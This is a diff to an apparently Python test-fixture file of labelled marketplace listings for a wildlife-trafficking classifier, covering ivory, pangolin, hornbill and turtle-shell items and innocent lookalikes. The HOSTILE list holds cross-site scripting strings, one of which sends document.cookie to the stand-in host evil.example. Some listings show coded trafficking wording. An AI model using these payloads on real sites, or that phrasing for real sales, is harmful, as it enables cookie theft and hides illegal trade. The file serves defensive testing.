@@ -101,6 +101,9 @@ LOOKALIKES = [
     ("Hornbill print, framed wildlife photo", "Great hornbill photographed in Thailand, 16x20 framed print.", "$85", "hornbill"),
     ("Hornbill kayak paddle, carbon", "Lightweight paddle, brand is Hornbill, used one season.", "$70", "hornbill"),
     ("Leopard print faux fur coat", "Faux fur, size M, fully lined.", "$55", "tiger"),
+    ("Celluloid 'French ivory' vanity set, 1920s", "Brush, mirror and comb in celluloid, the old 'French ivory' plastic, with the typical parallel lines. Not real ivory.", "$65", "ivory"),
+    ("Tiger King complete series DVD", "Both seasons, watched once.", "$10", "tiger"),
+    ("Antique crochet hooks, cattle bone, set of 5", "Cattle bone hooks from a sewing box, pores visible, some darkening.", "$22", "ivory"),
     ("Elephant family bronze sculpture", "Heavy bronze, about 10 inches tall, signed.", "$150", "ivory"),
     ("Ivory tower: a novel (first edition)", "First printing, dust jacket has a small tear.", "$25", "ivory"),
 ]
@@ -135,12 +138,19 @@ WILDLIFE = [
     ("Baby capuchin monkey", "Bottle fed, diapers included. Serious homes only, DM.", "$6,000", "suspicious", "live_animal", "exotics"),
     ("Scrimshaw whale tooth, sailing ship", "Sperm whale tooth with scrimshaw engraving, 6 inches.", "$1,300", "suspicious", "other_wildlife", "estate"),
     ("Saiga horn shavings 'ling yang'", "Genuine saiga antelope horn shavings for cooling tea, 50g.", "$260", "illegal", "other_wildlife", "orient"),
+    ("i.v.o.r.y carved elephant, 4 inch", "Real i-v-o-r-y, not resin or bone. DM before it's gone, ships discreetly.", "$350", "illegal", "ivory", "discreet"),
+    ("Antique 'bone' okimono, estate lot", "Catalogued as bone by the auction house. Heavy, fine criss-cross lines visible on the base, even yellow patina, no pores.", "$900", "suspicious", "ivory", "estate"),
+    ("Buying pangolin scales and rhino horn, top price", "Paying top dollar for scales and horn, any amount. WhatsApp only, no questions asked.", None, "illegal", "pangolin", "buyer"),
+    ("Bear gall bladder capsules, wild", "Wild bear gall from Laos, 60 capsules.", "$300", "illegal", "other_wildlife", "orient"),
+    ("Sea turtle shell wall hanging, real", "Real sea turtle shell brought back from Mexico in the 70s, 20 inches.", "$400", "illegal", "hawksbill", "estate"),
+    ("'Golden jade' carving, red skin edge", "Rare golden jade with the red skin edge intact. Only people who know the material, DM.", "$2,600", "illegal", "hornbill", "orient"),
     ("Elephant hair bracelet, real tail hair", "Genuine elephant tail hair woven with gold, lucky charm.", "$150", "suspicious", "ivory", None),
 ]
 
+# Text that tries to inject markup: (title, description, price, label, category, seller key).
 HOSTILE = [
-    ("Desk lamp <img src=x onerror=alert(document.cookie)>", "Adjustable LED desk lamp. </script><script>alert('pwned')</script> USB port in the base.", "$25", "benign", "none"),
-    ("Netsuke <script>alert(1)</script> bovine bone", "\"cow bone\" netsuke, grain visible </script><script>fetch('http://evil.example/?c='+document.cookie)</script> - text me", "$390", "suspicious", "ivory"),
+    ("Desk lamp <img src=x onerror=alert(document.cookie)>", "Adjustable LED desk lamp. </script><script>alert('pwned')</script> USB port in the base.", "$25", "benign", "none", None),
+    ("Netsuke <script>alert(1)</script> bovine bone", "\"cow bone\" netsuke, grain visible </script><script>fetch('http://evil.example/?c='+document.cookie)</script> - text me", "$390", "suspicious", "ivory", "discreet"),
 ]
 
 SELLERS = [
